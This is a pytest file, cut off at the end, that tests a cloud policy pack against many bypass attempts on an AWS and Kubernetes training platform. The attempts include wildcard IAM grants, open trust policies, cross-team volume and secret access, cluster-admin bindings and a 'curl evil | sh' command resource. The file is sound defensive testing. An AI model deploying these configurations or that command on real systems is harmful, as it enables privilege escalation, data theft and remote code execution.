"""An outside set of bypass attempts (issue #28): each adds what a hostile or careless change
would register to a real plan, and the whole pack must refuse it with the named policy, on the
resource that carries the attempt. Several variants per family, beyond the issue's examples:
spelling (string or list, JSON text or a mapping, case, `?`), partitions, other operators, other
resource kinds reaching the same thing. The positive controls: the real plans, unchanged, pass
every mandatory policy of the same pack.
"""

from __future__ import annotations

import json
from collections import Counter
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

import pytest
from conftest import BOOTSTRAP_STACKS, STACKS, plan_records
from gpu_training_policy import POLICIES
from gpu_training_policy.offline import evaluate
from records import find, policy_document, resource, with_changes

TEAM, DEV, BOOT = "team-vision-prod", "dev", "bootstrap"
TEAM_K8S, DEV_K8S = "platform-cluster", "cluster-k8s"
ROLE = "aws:iam/role:Role"
ROLE_POLICY = "aws:iam/rolePolicy:RolePolicy"
PV = "kubernetes:core/v1:PersistentVolume"
STORE = "kubernetes:external-secrets.io/v1:SecretStore"
ACCESS_POINT = "aws:efs/accessPoint:AccessPoint"
GITHUB = "token.actions.githubusercontent.com"
ACCOUNT = "111122223333"  # the stacks' account in stacks/*.yaml (permissions boundaries)
FABRIC_ID = "sg-0fab0fab0fab0fab0"  # the platform's EFA fabric group, as its outputs name it
GOOD_INSTANCE = {"ami": "ami-0123", "instanceType": "m7i.large", "metadataOptions": {"httpTokens": "required"},
                 "monitoring": True, "rootBlockDevice": {"encrypted": True}}

Records = list[dict[str, Any]]


@dataclass(frozen=True)
class Attempt:
    family: str
    id: str
    stack: str
    add: Callable[[Records], tuple[dict[str, Any], ...]]
    refused_by: str
    culprit: int = -1
    """Which added record the refusal must name (default: the last)."""


def on(stack: str, type_: str, name: str, inputs: dict[str, Any], *, k8s: bool = False, provider: str | None = "aws",
       **kwargs: Any) -> dict[str, Any]:
    """A record of `stack` on its AWS provider, its cluster provider (`k8s`), or `provider`."""
    provider = (TEAM_K8S if stack == TEAM else DEV_K8S) if k8s else provider
    return resource(type_, name, inputs, stack=stack, provider=provider, **kwargs)


def role_policy(stack: str, *statements: dict[str, Any], as_text: bool = True) -> Callable[[Records], tuple]:
    document: Any = {"Version": "2012-10-17", "Statement": list(statements)}
    if len(statements) == 1 and not as_text:
        document["Statement"] = statements[0]  # one statement, not a list: IAM accepts both
    return lambda _: (on(stack, ROLE_POLICY, "bypass-policy", {
        "role": "r", "policy": json.dumps(document) if as_text else document}),)


def allow(action: Any, res: Any) -> dict[str, Any]:
    return {"Effect": "Allow", "Action": action, "Resource": res}


def trust(stack: str, *statements: dict[str, Any], boundary: bool = True) -> Callable[[Records], tuple]:
    inputs: dict[str, Any] = {"assumeRolePolicy": policy_document(*statements)}
    if boundary:
        inputs["permissionsBoundary"] = f"arn:aws:iam::{ACCOUNT}:policy/gpu-training-boundary-prod"
    if stack == TEAM:
        inputs["name"] = "gpu-training-prod-team-vision-bypass"
    return lambda _: (on(stack, ROLE, "bypass-role", inputs),)


def assume(principal: Any) -> dict[str, Any]:
    return {"Effect": "Allow", "Principal": principal, "Action": "sts:AssumeRole"}


def github(condition: dict[str, Any]) -> dict[str, Any]:
    return {"Effect": "Allow", "Principal": {"Federated": f"arn:aws:iam::{ACCOUNT}:oidc-provider/{GITHUB}"},
            "Action": "sts:AssumeRoleWithWebIdentity", "Condition": condition}


AUD = {f"{GITHUB}:aud": "sts.amazonaws.com"}


def sg_change(type_: str, **inputs: Any) -> Callable[[Records], tuple]:
    return lambda _: (on(TEAM, type_, "bypass-rule", {"securityGroupId": FABRIC_ID, **inputs}),)


def volume(spec_source: dict[str, Any], *, depends_on_ap: bool = False, ap_root: str | None = None,
           ap_arn: str | None = None) -> Callable[[Records], tuple]:
    def add(records: Records) -> tuple:
        # (the namespace is the platform's: the team's objects wait for its namespace component)
        namespace = find(records, "gpu-training:workload:TrainingNamespace", "team-namespace")
        added: list[dict[str, Any]] = []
        depends = {"metadata": [namespace], "spec": [namespace]}
        if depends_on_ap:
            ap = on(TEAM, ACCESS_POINT, "bypass-ap", {"fileSystemId": "fs-0abc", "rootDirectory": {
                "path": ap_root or "/workloads/team-vision"}, **({"arn": ap_arn} if ap_arn else {})})
            added.append(ap)
            depends["spec"] = [ap, namespace]
        added.append(on(TEAM, PV, "bypass-volume", {"metadata": {"name": "bypass-team-vision"}, "spec": {
            "accessModes": ["ReadWriteMany"], "capacity": {"storage": "1Ti"},
            "claimRef": {"name": "checkpoints", "namespace": "team-vision"}, **spec_source}}, k8s=True, depends=depends))
        return tuple(added)
    return add


def efs(handle: str) -> dict[str, Any]:
    return {"csi": {"driver": "efs.csi.aws.com", "volumeHandle": handle}}


def store(provider: dict[str, Any], *, own_role: bool = False, kind: str = STORE) -> Callable[[Records], tuple]:
    def add(records: Records) -> tuple:
        depends = {"spec": [find(records, ROLE, "team-secrets-reader")]} if own_role else None
        return (on(TEAM, kind, "bypass-store", {"metadata": {"name": "bypass", "namespace": "team-vision"},
                                                "spec": {"provider": provider}}, k8s=True, depends=depends),)
    return add


def aws_store(role: str, **extra: Any) -> dict[str, Any]:
    return {"aws": {"service": "SecretsManager", "region": "us-east-1", "role": role, **extra}}


def just(stack: str, type_: str, inputs: dict[str, Any] | None = None, **kwargs: Any) -> Callable[[Records], tuple]:
    return lambda _: (on(stack, type_, "bypass", inputs or {}, **kwargs),)


def cluster_role_bound_to(cluster_role: str, *subjects: dict[str, str]) -> dict[str, Any]:
    """A (Cluster)RoleBinding's roleRef and subjects: `cluster_role` granted to `subjects`."""
    return {"roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": cluster_role},
            "subjects": list(subjects)}


INGRESS = "kubernetes:networking.k8s.io/v1:Ingress"
SERVICE = "kubernetes:core/v1:Service"
PLATFORM_GROUP = "gpu-training-prod-viewer"  # the platform's IngressGroup (one ALB), as the team plan joins it


def ingress(namespace: str = "team-vision", path: str = "/team-vision", path_type: str = "Prefix",
            annotations: dict[str, str | None] | None = None, **spec: Any) -> Callable[[Records], tuple]:
    """A viewer-like Ingress of the team stack in the platform's IngressGroup (an annotation given
    as None is left out)."""
    given = {"alb.ingress.kubernetes.io/group.name": PLATFORM_GROUP, **(annotations or {})}
    return lambda _: (on(TEAM, INGRESS, "bypass-ingress", {
        "metadata": {"name": "bypass", "namespace": namespace, "annotations": {
            key: value for key, value in given.items() if value is not None}},
        "spec": {"ingressClassName": "alb", "rules": [{"http": {"paths": [{
            "path": path, "pathType": path_type,
            "backend": {"service": {"name": "tensorboard", "port": {"number": 6006}}}}]}}], **spec}}, k8s=True),)


def service(namespace: str = "team-vision", **spec: Any) -> Callable[[Records], tuple]:
    return lambda _: (on(TEAM, SERVICE, "bypass-service", {"metadata": {"name": "bypass", "namespace": namespace}, "spec": {
        "selector": {"app.kubernetes.io/name": "tensorboard"}, "ports": [{"port": 6006, "targetPort": 6006}], **spec}},
        k8s=True),)


def cluster_object(type_: str, spec: dict[str, Any]) -> Callable[[Records], tuple]:
    return lambda _: (on(TEAM, type_, "bypass", {"metadata": {"name": "team-vision"}, **spec}, k8s=True),)


OTHER_TEAM_READER = f"arn:aws:iam::{ACCOUNT}:role/gpu-training-prod-team-nlp-secrets"
ATTEMPTS = [
    # --- a team stack's rules into the platform's security groups
    Attempt("sg", "ingress into the EFA fabric from a CIDR", TEAM, sg_change(
        "aws:vpc/securityGroupIngressRule:SecurityGroupIngressRule", cidrIpv4="10.0.0.0/8", ipProtocol="-1"),
        "team-rules-own-groups"),
    Attempt("sg", "ingress into the fabric from itself (looks like the platform's own rule)", TEAM, sg_change(
        "aws:vpc/securityGroupIngressRule:SecurityGroupIngressRule", referencedSecurityGroupId=FABRIC_ID, ipProtocol="-1"),
        "team-rules-own-groups"),
    Attempt("sg", "a legacy SecurityGroupRule", TEAM, sg_change(
        "aws:ec2/securityGroupRule:SecurityGroupRule", type="ingress", protocol="tcp", fromPort=0, toPort=65535,
        cidrBlocks=["10.1.0.0/16"]), "team-rules-own-groups"),
    Attempt("sg", "an egress rule on the fabric", TEAM, sg_change(
        "aws:vpc/securityGroupEgressRule:SecurityGroupEgressRule", cidrIpv4="10.0.0.0/8", ipProtocol="-1"),
        "team-rules-own-groups"),
    Attempt("sg", "an interface attached to the fabric group", TEAM, sg_change(
        "aws:ec2/networkInterfaceSecurityGroupAttachment:NetworkInterfaceSecurityGroupAttachment",
        networkInterfaceId="eni-0123"), "team-rules-own-groups"),
    # --- EC2 instances
    Attempt("ec2", "an instance with a public IP", DEV, just(DEV, "aws:ec2/instance:Instance", GOOD_INSTANCE | {
        "associatePublicIpAddress": True}), "ec2-instance-hardened"),
    Attempt("ec2", "an instance without metadata options (IMDSv1)", DEV, just(DEV, "aws:ec2/instance:Instance", {
        k: v for k, v in GOOD_INSTANCE.items() if k != "metadataOptions"}), "ec2-instance-hardened"),
    Attempt("ec2", "an instance with http_tokens optional", DEV, just(DEV, "aws:ec2/instance:Instance", GOOD_INSTANCE | {
        "metadataOptions": {"httpTokens": "optional", "httpEndpoint": "enabled"}}), "ec2-instance-hardened"),
    Attempt("ec2", "a spot instance request with a public IP", DEV, just(
        DEV, "aws:ec2/spotInstanceRequest:SpotInstanceRequest", GOOD_INSTANCE | {"associatePublicIpAddress": "true"}),
        "ec2-instance-hardened"),
    Attempt("ec2", "a launch configuration with IMDSv1", DEV, just(
        DEV, "aws:ec2/launchConfiguration:LaunchConfiguration", {"imageId": "ami-0", "instanceType": "m7i.large",
                                                                 "rootBlockDevice": {"encrypted": True}}),
        "ec2-instance-hardened"),
    Attempt("ec2", "a launch template whose interface gets a public IP", DEV, just(
        DEV, "aws:ec2/launchTemplate:LaunchTemplate", {"networkInterfaces": [{"associatePublicIpAddress": True}]}),
        "ec2-instance-hardened"),
    Attempt("ec2", "an instance from a team stack", TEAM, just(TEAM, "aws:ec2/instance:Instance", GOOD_INSTANCE),
            "allowed-resource-types"),
    # --- role policies
    Attempt("iam", "arn:*: partition on every secret", DEV, role_policy(DEV, allow(
        "secretsmanager:GetSecretValue", "arn:*:secretsmanager:*:*:secret:*")), "iam-statements-scoped"),
    Attempt("iam", "arn:aws:secretsmanager:*:*:*", TEAM, role_policy(TEAM, allow(
        ["secretsmanager:GetSecretValue"], ["arn:aws:secretsmanager:*:*:*"])), "iam-statements-scoped"),
    Attempt("iam", "NotAction with Allow", TEAM, role_policy(TEAM, {
        "Effect": "Allow", "NotAction": ["iam:*", "organizations:*"], "Resource": "*"}), "iam-statements-scoped"),
    Attempt("iam", "NotResource with Allow", DEV, role_policy(DEV, {
        "Effect": "Allow", "Action": "s3:GetObject", "NotResource": "arn:aws:s3:::gpu-training-dev-datasets-1/*"}),
        "iam-statements-scoped"),
    Attempt("iam", "s3:* on every bucket", DEV, role_policy(DEV, allow("s3:*", "arn:aws:s3:::*")), "iam-statements-scoped"),
    Attempt("iam", "*:* as a mapping with one statement", DEV, role_policy(DEV, allow("*", "*"), as_text=False),
            "iam-statements-scoped"),
    Attempt("iam", "ssm:SendCommand on every instance", DEV, role_policy(DEV, allow(
        "ssm:SendCommand", "arn:aws:ec2:*:*:instance/*")), "iam-statements-scoped"),
    Attempt("iam", "iam:PassRole on every role", DEV, role_policy(DEV, allow(
        "iam:PassRole", f"arn:aws:iam::{ACCOUNT}:role/*")), "iam-statements-scoped"),
    Attempt("iam", "an upper-case action with a wildcard on every object", TEAM, role_policy(TEAM, allow(
        "S3:Get*", "arn:aws:s3:::*/*")), "iam-statements-scoped"),
    Attempt("iam", "assume every team's secret reader", TEAM, role_policy(TEAM, allow(
        "sts:AssumeRole", f"arn:aws:iam::{ACCOUNT}:role/gpu-training-prod-team-*")), "iam-statements-scoped"),
    Attempt("iam", "every team's secrets", TEAM, role_policy(TEAM, allow(
        "secretsmanager:GetSecretValue", f"arn:aws:secretsmanager:us-east-1:{ACCOUNT}:secret:gpu-training/prod/teams/*")),
        "iam-statements-scoped"),
    Attempt("iam", "? in the action of a role's inline policy", TEAM, lambda _: (on(TEAM, ROLE, "bypass-role", {
        "name": "gpu-training-prod-team-vision-x", "assumeRolePolicy": policy_document(),
        "inlinePolicies": [{"name": "x", "policy": policy_document(allow(
            "secretsmanager:Get?ecretValue", f"arn:aws:secretsmanager:us-east-1:{ACCOUNT}:secret:*"))}]}),),
        "iam-statements-scoped"),
    Attempt("iam", "a managed policy with kms:* on every key", DEV, just(DEV, "aws:iam/policy:Policy", {
        "policy": policy_document(allow("kms:*", "*"))}), "iam-statements-scoped"),
    Attempt("iam", "cluster access on every cluster", DEV, role_policy(DEV, allow(
        ["eks:AssociateAccessPolicy", "eks:CreateAccessEntry"], f"arn:aws:eks:us-east-1:{ACCOUNT}:cluster/*")),
        "iam-statements-scoped"),
    # --- trust policies
    Attempt("trust", "Principal *", TEAM, trust(TEAM, assume("*")), "role-trust-scoped"),
    Attempt("trust", "AWS * inside a list", TEAM, trust(TEAM, assume({"AWS": [f"arn:aws:iam::{ACCOUNT}:role/x", "*"]})),
            "role-trust-scoped"),
    Attempt("trust", "a bare account id", DEV, trust(DEV, assume({"AWS": ACCOUNT})), "role-trust-scoped"),
    Attempt("trust", "another account's role", TEAM, trust(TEAM, assume({"AWS": "arn:aws:iam::999988887777:role/ci"})),
            "role-trust-scoped"),
    Attempt("trust", "an account root", DEV, trust(DEV, assume({"AWS": f"arn:aws:iam::{ACCOUNT}:root"})), "role-trust-scoped"),
    Attempt("trust", "GitHub sub for every repository of the owner", BOOT, trust(BOOT, github(
        {"StringEquals": AUD, "StringLike": {f"{GITHUB}:sub": "repo:example-org/*"}}), boundary=False), "role-trust-scoped"),
    Attempt("trust", "GitHub sub for every ref of the repository", BOOT, trust(BOOT, github(
        {"StringEquals": AUD, "StringLike": {f"{GITHUB}:sub": "repo:example-org/gpu-training:*"}}), boundary=False),
        "role-trust-scoped"),
    Attempt("trust", "GitHub sub for every branch", DEV, trust(DEV, github(
        {"StringEquals": AUD, "StringLike": {f"{GITHUB}:sub": ["repo:example-org/gpu-training:ref:refs/heads/*"]}})),
        "role-trust-scoped"),
    Attempt("trust", "GitHub without aud", BOOT, trust(BOOT, github(
        {"StringEquals": {f"{GITHUB}:sub": "repo:example-org/gpu-training:ref:refs/heads/main"}}), boundary=False),
        "role-trust-scoped"),
    Attempt("trust", "GitHub aud as a pattern", BOOT, trust(BOOT, github({"StringLike": {
        f"{GITHUB}:aud": "*", f"{GITHUB}:sub": "repo:example-org/gpu-training:ref:refs/heads/main"}}), boundary=False),
        "role-trust-scoped"),
    Attempt("trust", "GitHub sub under ForAnyValue:StringLike", BOOT, trust(BOOT, github({
        "StringEquals": AUD, "ForAnyValue:StringLike": {f"{GITHUB}:sub": "repo:example-org/gpu-training:ref:refs/heads/main"}}),
        boundary=False), "role-trust-scoped"),
    Attempt("trust", "GitHub sub with ? for one character", BOOT, trust(BOOT, github({
        "StringEquals": AUD, "StringLike": {f"{GITHUB}:sub": "repo:example-org/gpu-trainin?:ref:refs/heads/main"}}),
        boundary=False), "role-trust-scoped"),
    Attempt("trust", "a web identity provider without conditions", DEV, trust(DEV, {
        "Effect": "Allow", "Principal": {"Federated": f"arn:aws:iam::{ACCOUNT}:oidc-provider/{GITHUB}"},
        "Action": "sts:AssumeRoleWithWebIdentity"}), "role-trust-scoped"),
    # --- persistent volumes naming another team's access point (or none)
    Attempt("pv", "another team's access point by id", TEAM, volume(efs("fs-0abc::fsap-0123456789abcdef0")),
            "team-references-own"),
    Attempt("pv", "the whole file system", TEAM, volume(efs("fs-0abc")), "team-references-own"),
    Attempt("pv", "another team's directory as a subpath", TEAM, volume(efs("fs-0abc:/workloads/team-nlp")),
            "team-references-own"),
    Attempt("pv", "NFS to the file system's DNS name", TEAM, volume({"nfs": {
        "server": "fs-0abc.efs.us-east-1.amazonaws.com", "path": "/workloads/team-nlp"}}), "team-references-own"),
    Attempt("pv", "a hostPath volume", TEAM, volume({"hostPath": {"path": "/var/lib/kubelet"}}), "team-references-own"),
    Attempt("pv", "an own access point rooted in another team's directory", TEAM, volume(
        efs("fs-0abc::bypass-ap-id"), depends_on_ap=True, ap_root="/workloads/team-nlp"), "team-references-own", culprit=0),
    Attempt("pv", "an own access point rooted at the file system's root", TEAM, volume(
        efs("fs-0abc::bypass-ap-id"), depends_on_ap=True, ap_root="/"), "team-references-own", culprit=0),
    Attempt("pv", "an own access point, but another's id in the handle", TEAM, volume(
        efs("fs-0abc::fsap-0bbbbbbbbbbbbbbbb"), depends_on_ap=True,
        ap_arn=f"arn:aws:elasticfilesystem:us-east-1:{ACCOUNT}:access-point/fsap-0aaaaaaaaaaaaaaaa"), "team-references-own"),
    Attempt("pv", "S3 with the driver's credentials", TEAM, volume({"csi": {"driver": "s3.csi.aws.com", "volumeHandle": "x",
        "volumeAttributes": {"bucketName": "gpu-training-prod-artifacts-1", "authenticationSource": "driver"}}}),
        "team-references-own"),
    # --- secret stores naming another team's role
    Attempt("store", "another team's reader role", TEAM, store(aws_store(OTHER_TEAM_READER)), "team-references-own"),
    Attempt("store", "the platform's sync role", TEAM, store(aws_store(
        f"arn:aws:iam::{ACCOUNT}:role/gpu-training-prod-secrets-sync")), "team-references-own"),
    Attempt("store", "another team's role under a path", TEAM, store(aws_store(
        f"arn:aws:iam::{ACCOUNT}:role/teams/gpu-training-prod-team-nlp-secrets")), "team-references-own"),
    Attempt("store", "a role this stack did not create", TEAM, store(aws_store(
        "arn:aws:mock:us-east-1:123456789012:role/someone-elses")), "team-references-own"),
    Attempt("store", "no role: the controller's own identity", TEAM, store({"aws": {
        "service": "SecretsManager", "region": "us-east-1"}}), "team-references-own"),
    Attempt("store", "the Kubernetes provider into another namespace", TEAM, store({"kubernetes": {
        "remoteNamespace": "team-nlp", "server": {"caProvider": {"type": "ConfigMap", "name": "kube-root-ca.crt"}}}}),
        "team-references-own"),
    Attempt("store", "the team's role, authenticated as another namespace's account", TEAM, store(aws_store(
        "arn:aws:mock:us-east-1:123456789012:role/team-secrets-reader", auth={"jwt": {"serviceAccountRef": {
            "name": "trainer", "namespace": "team-nlp"}}}), own_role=True), "team-references-own"),
    Attempt("store", "a ClusterSecretStore naming another team's role", TEAM, store(
        aws_store(OTHER_TEAM_READER), kind="kubernetes:external-secrets.io/v1:ClusterSecretStore"), "allowed-resource-types"),
    Attempt("store", "an ExternalSecret through a ClusterSecretStore", TEAM, lambda _: (on(
        TEAM, "kubernetes:external-secrets.io/v1:ExternalSecret", "bypass-es", {
            "metadata": {"name": "x", "namespace": "team-vision"}, "spec": {
                "secretStoreRef": {"kind": "ClusterSecretStore", "name": "platform"},
                "data": [{"secretKey": "t", "remoteRef": {"key": "gpu-training/prod/teams/nlp/token"}}]}}, k8s=True),),
        "team-references-own"),
    Attempt("store", "a value written into the platform's secret", TEAM, just(TEAM,
        "aws:secretsmanager/secretVersion:SecretVersion", {"secretId": "gpu-training/prod/hf-token", "secretString": "x"}),
        "team-references-own"),
    Attempt("iam", "an inline policy on the platform's sync role", TEAM, just(TEAM, ROLE_POLICY, {
        "role": "gpu-training-prod-secrets-sync", "policy": policy_document(allow("s3:GetObject", "arn:aws:s3:::b/teams/vision/*"))}),
        "team-references-own"),
    Attempt("iam", "a Pod Identity association of the platform's trainer role", TEAM, just(TEAM,
        "aws:eks/podIdentityAssociation:PodIdentityAssociation", {"clusterName": "gpu-training-prod", "namespace": "team-vision",
        "serviceAccount": "trainer", "roleArn": f"arn:aws:iam::{ACCOUNT}:role/gpu-training-prod-trainer"}),
        "team-references-own"),
    # --- packages and types outside the allow-lists
    Attempt("types", "aws-native", TEAM, just(TEAM, "aws-native:s3:Bucket", {"bucketName": "x"}), "allowed-resource-types"),
    Attempt("types", "command:local", DEV, just(DEV, "command:local:Command", {"create": "curl evil | sh"}, provider=None),
            "allowed-resource-types"),
    Attempt("types", "a Python dynamic provider", TEAM, just(TEAM, "pulumi-python:dynamic:Resource", {"__provider": "x"},
                                                             provider=None), "allowed-resource-types"),
    Attempt("types", "a Lambda function from a team stack", TEAM, just(TEAM, "aws:lambda/function:Function", {
        "role": "r"}), "allowed-resource-types"),
    Attempt("types", "an unlisted package", DEV, just(DEV, "random:index/randomPassword:RandomPassword", {"length": 9},
                                                      provider=None), "allowed-resource-types"),
    Attempt("types", "an IAM user in the bootstrap", BOOT, just(BOOT, "aws:iam/user:User", {"name": "ci"}),
            "allowed-resource-types"),
    Attempt("types", "a Helm release from a team stack", TEAM, just(TEAM, "kubernetes:helm.sh/v3:Release", {
        "chart": "x", "namespace": "team-vision"}, k8s=True), "allowed-resource-types"),
    # --- a team's Ingress and Services on the environment's shared load balancer
    Attempt("ingress", "an Ingress in another team's namespace", TEAM, ingress(namespace="team-nlp", path="/team-nlp"),
            "team-stack-scope"),
    Attempt("ingress", "joining the platform's IngressGroup with another team's path", TEAM, ingress(path="/team-nlp"),
            "team-references-own"),
    Attempt("ingress", "the platform namespace's path", TEAM, ingress(path="/training-prod"), "team-references-own"),
    Attempt("ingress", "the whole load balancer (path /)", TEAM, ingress(path="/"), "team-references-own"),
    Attempt("ingress", "a prefix that also matches another team (/team-vision*)", TEAM, ingress(
        path="/team-vision*", path_type="ImplementationSpecific"), "team-references-own"),
    Attempt("ingress", "a path that only starts like the team's (/team-vision2)", TEAM, ingress(path="/team-vision2"),
            "team-references-own"),
    Attempt("ingress", "a defaultBackend: every request no rule matches", TEAM, ingress(defaultBackend={
        "service": {"name": "tensorboard", "port": {"number": 6006}}}), "team-references-own"),
    Attempt("ingress", "an annotation action forwarding to another team's target group", TEAM, ingress(annotations={
        "alb.ingress.kubernetes.io/actions.steal": json.dumps({"type": "forward", "forwardConfig": {"targetGroups": [{
            "targetGroupARN": f"arn:aws:elasticloadbalancing:us-east-1:{ACCOUNT}:targetgroup/k8s-teamnlp/0123"}]}})}),
        "team-references-own"),
    Attempt("ingress", "a group of its own, internet-facing, open to every address (a public ALB)", TEAM, ingress(
        annotations={"alb.ingress.kubernetes.io/group.name": "team-vision-public",
                     "alb.ingress.kubernetes.io/scheme": "internet-facing",
                     "alb.ingress.kubernetes.io/inbound-cidrs": "0.0.0.0/0"}), "team-references-own"),
    Attempt("ingress", "the platform's group, open to every address", TEAM, ingress(annotations={
        "alb.ingress.kubernetes.io/inbound-cidrs": "10.0.0.0/16, 0.0.0.0/0"}), "team-references-own"),
    Attempt("ingress", "another security group on the shared load balancer", TEAM, ingress(annotations={
        "alb.ingress.kubernetes.io/security-groups": "sg-0123456789abcdef0"}), "team-references-own"),
    Attempt("ingress", "no IngressGroup: a load balancer of its own", TEAM, ingress(annotations={
        "alb.ingress.kubernetes.io/group.name": None}), "team-references-own"),
    Attempt("ingress", "a Service of type LoadBalancer (a load balancer of its own)", TEAM, service(type="LoadBalancer"),
            "team-references-own"),
    Attempt("ingress", "a NodePort Service", TEAM, service(type="NodePort"), "team-references-own"),
    Attempt("ingress", "a Service capturing externalIPs", TEAM, service(externalIPs=["10.30.0.10"]), "team-references-own"),
    Attempt("ingress", "a Service in the platform's namespace", TEAM, service(namespace="training-prod"), "team-stack-scope"),
    # --- cluster-wide objects (MultiKueue, RBAC) and shared data from a team stack
    Attempt("cluster", "a MultiKueueCluster (a worker cluster's kubeconfig)", TEAM, cluster_object(
        "kubernetes:kueue.x-k8s.io/v1beta2:MultiKueueCluster", {"spec": {"clusterSource": {"kubeConfig": {
            "location": "prod-usw2-kubeconfig", "locationType": "Secret"}}}}), "allowed-resource-types"),
    Attempt("cluster", "a MultiKueueConfig", TEAM, cluster_object(
        "kubernetes:kueue.x-k8s.io/v1beta2:MultiKueueConfig", {"spec": {"clusters": ["prod-usw2"]}}), "allowed-resource-types"),
    Attempt("cluster", "a ClusterRole", TEAM, cluster_object("kubernetes:rbac.authorization.k8s.io/v1:ClusterRole", {
        "rules": [{"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}]}), "allowed-resource-types"),
    Attempt("cluster", "a ClusterRoleBinding to cluster-admin", TEAM, cluster_object(
        "kubernetes:rbac.authorization.k8s.io/v1:ClusterRoleBinding",
        cluster_role_bound_to("cluster-admin", {"kind": "ServiceAccount", "name": "trainer", "namespace": "team-vision"})),
        "allowed-resource-types"),
    # A team's own any-region ClusterQueue is `team-vision.any-region`: another team's, or a name
    # that only starts like it, is not the team's.
    Attempt("cluster", "another team's any-region ClusterQueue", TEAM, just(
        TEAM, "kubernetes:kueue.x-k8s.io/v1beta2:ClusterQueue", {
            "metadata": {"name": "team-nlp.any-region"}, "spec": {}}, k8s=True), "team-stack-scope"),
    Attempt("cluster", "a ClusterQueue named like the any-region one without its dot", TEAM, just(
        TEAM, "kubernetes:kueue.x-k8s.io/v1beta2:ClusterQueue", {
            "metadata": {"name": "team-vision-any-region"}, "spec": {}}, k8s=True), "team-stack-scope"),
    # The review's probes: the team's own queue names, but admitting more or locally; a LocalQueue
    # onto the environment's queue; a namespace's RoleBinding handing it to everyone.
    Attempt("cluster", "the team's any-region ClusterQueue admitting every namespace", TEAM, just(
        TEAM, "kubernetes:kueue.x-k8s.io/v1beta2:ClusterQueue", {
            "metadata": {"name": "team-vision.any-region"},
            "spec": {"namespaceSelector": {}, "admissionChecksStrategy": {"admissionChecks": [{"name": "multikueue"}]}}},
        k8s=True), "team-stack-scope"),
    Attempt("cluster", "the team's any-region ClusterQueue without the MultiKueue check", TEAM, just(
        TEAM, "kubernetes:kueue.x-k8s.io/v1beta2:ClusterQueue", {
            "metadata": {"name": "team-vision.any-region"},
            "spec": {"namespaceSelector": {"matchLabels": {"kubernetes.io/metadata.name": "team-vision"}}}},
        k8s=True), "team-stack-scope"),
    Attempt("cluster", "a LocalQueue onto the environment's any-region queue", TEAM, just(
        TEAM, "kubernetes:kueue.x-k8s.io/v1beta2:LocalQueue", {
            "metadata": {"name": "sneak", "namespace": "team-vision"}, "spec": {"clusterQueue": "any-region"}},
        k8s=True), "team-stack-scope"),
    Attempt("cluster", "a RoleBinding of admin to system:authenticated", TEAM, just(
        TEAM, "kubernetes:rbac.authorization.k8s.io/v1:RoleBinding", {
            "metadata": {"name": "open", "namespace": "team-vision"}, **cluster_role_bound_to(
                "admin", {"apiGroup": "rbac.authorization.k8s.io", "kind": "Group", "name": "system:authenticated"})},
        k8s=True), "team-stack-scope"),
    Attempt("cluster", "the dispatcher's ClusterRole bound to another team's account", TEAM, just(
        TEAM, "kubernetes:rbac.authorization.k8s.io/v1:RoleBinding", {
            "metadata": {"name": "lend", "namespace": "team-vision"}, **cluster_role_bound_to(
                "multikueue-manager", {"kind": "ServiceAccount", "name": "trainer", "namespace": "team-nlp"})},
        k8s=True), "team-stack-scope"),
    Attempt("cluster", "a Deployment in kube-system", TEAM, just(TEAM, "kubernetes:apps/v1:Deployment", {
        "metadata": {"name": "x", "namespace": "kube-system"}, "spec": {}}, k8s=True), "team-stack-scope"),
    Attempt("cluster", "a BucketReplicationConfig copying the datasets bucket out", TEAM, just(
        TEAM, "aws:s3/bucketReplicationConfig:BucketReplicationConfig", {
            "bucket": "gpu-training-prod-datasets-123456789012", "role": f"arn:aws:iam::{ACCOUNT}:role/x",
            "rules": [{"status": "Enabled", "destination": {"bucket": "arn:aws:s3:::elsewhere"}}]}),
        "allowed-resource-types"),
    # --- AWSGuard's rules
    Attempt("awsguard", "an unencrypted file system", DEV, just(DEV, "aws:efs/fileSystem:FileSystem", {"encrypted": False}),
            "efs-encrypted"),
    Attempt("awsguard", "a key without rotation", TEAM, just(TEAM, "aws:kms/key:Key", {"enableKeyRotation": False}),
            "kms-key-rotation"),
    Attempt("awsguard", "an unencrypted instance root volume", DEV, just(DEV, "aws:ec2/instance:Instance", GOOD_INSTANCE | {
        "rootBlockDevice": {"encrypted": False}}), "ec2-instance-hardened"),
]


def mandatory(violations):
    return {(v.policy, v.urn) for v in violations if v.level == "mandatory"}


_base: dict[str, set[tuple[str, str | None]]] = {}


def base_refusals(stack: str) -> set[tuple[str, str | None]]:
    if stack not in _base:
        _base[stack] = mandatory(evaluate(plan_records(stack), POLICIES))
    return _base[stack]


@pytest.mark.parametrize("attempt", ATTEMPTS, ids=lambda a: f"{a.family}: {a.id}")
def test_the_pack_refuses_the_attempt(attempt: Attempt):
    base = plan_records(attempt.stack)
    added = attempt.add(base)
    violations = evaluate(with_changes(base, add=added), POLICIES)

    culprit = added[attempt.culprit]
    assert (attempt.refused_by, culprit["urn"]) in mandatory(violations), "\n".join(map(str, violations)) or "let through"
    assert base_refusals(attempt.stack) == set(), "the plan itself passes: the refusal is the attempt's"


def test_the_attempts_cover_every_family_with_several_variants():
    families = Counter(a.family for a in ATTEMPTS)
    assert set(families) == {"sg", "ec2", "iam", "trust", "pv", "store", "types", "awsguard", "ingress", "cluster"}
    assert min(families.values()) >= 3, families
    assert len(ATTEMPTS) >= 35
    assert len({(a.family, a.id) for a in ATTEMPTS}) == len(ATTEMPTS)


@pytest.mark.parametrize("stack", STACKS + BOOTSTRAP_STACKS)
def test_positive_control_the_real_plans_pass_the_whole_pack(stack):
    assert base_refusals(stack) == set()


@pytest.mark.parametrize(("type_", "name"), [(PV, "team-vision-checkpoints-volume"),
                                             (ACCESS_POINT, "team-vision-checkpoints-ap")])
def test_a_team_stack_may_not_make_what_its_platform_makes_for_it(type_, name):
    """A team's access point and volumes are its platform's (components/workload/team_volumes.py):
    the very one the platform plans for team vision, in team vision's own plan, is refused."""
    records = plan_records(TEAM)
    assert not [r for r in records if r["type"] in (PV, ACCESS_POINT)]
    planned = find(plan_records("prod"), type_, name)
    copied = on(TEAM, type_, name, planned["inputs"], k8s=type_ == PV)
    assert ("allowed-resource-types", copied["urn"]) in mandatory(evaluate(with_changes(records, add=(copied,)), POLICIES))


def test_positive_control_a_team_dashboard_and_its_viewer_pass():
    """A team's own dashboard, alarms and viewer (Ingress on its path of the platform's IngressGroup,
